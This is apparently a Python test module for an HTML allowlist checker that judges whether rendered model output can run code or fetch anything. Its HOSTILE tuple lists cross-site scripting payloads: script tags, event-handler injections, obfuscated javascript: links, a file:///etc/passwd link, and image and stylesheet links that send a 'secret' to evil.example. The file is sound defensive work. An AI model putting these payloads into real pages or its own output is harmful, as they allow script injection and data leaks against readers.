"""What HTML may have in it if nothing in it is to act, or to fetch anything; read as a browser would."""

from html.parser import HTMLParser

TAGS = frozenset(
    {
        "div",
        "style",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "b",
        "i",
        "p",
        "ul",
        "ol",
        "li",
        "details",
        "summary",
        "pre",
        "code",
        "svg",
        "rect",
        "path",
        "title",
        "span",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "em",
        "strong",
        "s",
        "a",
        "hr",
        "br",
    }
)
ATTRIBUTES = frozenset(
    {
        "class",
        "colspan",
        "viewbox",
        "preserveaspectratio",
        "role",
        "aria-label",
        "x",
        "y",
        "width",
        "height",
        "d",
        "href",
        "target",
        "rel",
        "start",
        "style",
    }
)
EMPTY = frozenset({"br", "hr"})


class Reading(HTMLParser):
    """Every element and attribute of a page, its text, and what is wrong with it."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(page)
        self.close()
        if self._open:
            self.wrong.append(f"not closed: {self._open}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            styled = name == "style" and value not in {"text-align:left", "text-align:right", "text-align:center"}
            leads = name == "href" and not (value or "").startswith(("https://", "http://", "mailto:"))
            if name not in ATTRIBUTES or styled or leads:
                self.wrong.append(f"{tag}.{name}={value!r}")
        if tag not in EMPTY:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in EMPTY:
            return
        if not self._open or self._open.pop() != tag:
            self.wrong.append(f"</{tag}> closes something else")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "</style><script>alert(1)</script>",
    "</pre></td></tr></table></div><iframe src='javascript:alert(1)'></iframe>",
    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [v](VBScript:x) [f](file:///etc/passwd)",
    "[x](java\nscript:alert(1)) [x](&#106;avascript:alert(1)) [x](\\6aavascript:alert(1)) <javascript:alert(1)>",
    "![pixel](https://evil.example/?q=secret) ![][r] \n\n[r]: https://evil.example/pixel.png",
    '```"><script>alert(1)</script>\nx\n```\n\n| a | b |\n|:-|-:|\n| <svg onload=alert(1)> | `</code><script>` |',
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<!-- --><!doctype html><?php x ?><![CDATA[<script>]]>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>\u202e\ud800",
    "$\\href{javascript:alert(1)}{x}$",
)
"""What a model might write in place of a text."""
